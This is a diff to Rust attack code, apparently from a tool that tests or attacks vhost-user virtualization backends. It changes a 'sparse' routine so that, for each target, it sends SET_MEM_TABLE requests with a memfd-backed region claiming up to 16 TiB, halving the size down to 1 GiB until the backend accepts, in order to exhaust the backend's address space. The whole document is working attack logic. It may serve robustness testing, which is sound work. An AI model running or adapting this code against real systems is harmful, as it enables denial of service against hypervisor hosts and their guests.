@@ -21,6 +21,8 @@ const REGIONS: u64 = 508;
 const SMALL: u64 = 4096;
 /// What a region may say it is long: more than any guest has.
 const HUGE: u64 = 16 << 40;
+/// What an honest guest has.
+const LEAST: u64 = 1 << 30;
 
 /// Adds adjacent regions of one file behind the memory; how many the switch took.
 fn add_regions(raw: &Raw, file: &File) -> u64 {
@@ -115,16 +117,23 @@ pub fn sparse(attack: &mut Attack<'_>) -> Result<(), Error> {
         let mut held = Vec::new();
         for target in attack.targets.clone() {
             let Some(raw) = attack.raw_at(&target)? else { break };
-            let file = rustix::fs::memfd_create("hostile", rustix::fs::MemfdFlags::CLOEXEC)?;
-            let file = File::from(file);
-            // A file system's limit may be lower.
-            let size = [HUGE, HUGE / 2, HUGE / 16, HUGE / 256].into_iter();
-            let size = size.map(|len| (len, file.set_len(len))).find(|(_, done)| done.is_ok());
-            let Some((size, _)) = size else { break };
-            let region = MemRegion { guest_addr: 0, size, user_addr: 0, mmap_offset: 0 };
-            if raw.negotiate(FEATURES) {
+            let file = memfd(0)?;
+            // What is left of the address space is taken in smaller pieces.
+            let mut size = HUGE;
+            let negotiated = raw.negotiate(FEATURES);
+            while negotiated && size >= LEAST && attack.on() {
+                let region = MemRegion { guest_addr: 0, size, user_addr: 0, mmap_offset: 0 };
                 let table = MemRegion::table_to_bytes(&[region]);
-                attack.answered(raw.ask(R::SET_MEM_TABLE, table, &[file.as_fd()]));
+                // A file system's limit may be lower.
+                let granted = file.set_len(size).is_ok().then(|| {
+                    let answer = raw.ask(R::SET_MEM_TABLE, table, &[file.as_fd()]);
+                    attack.answered(answer);
+                    answer
+                });
+                if matches!(granted, Some(Some(true) | None)) {
+                    break;
+                }
+                size /= 2;
             }
             held.push(raw);
         }
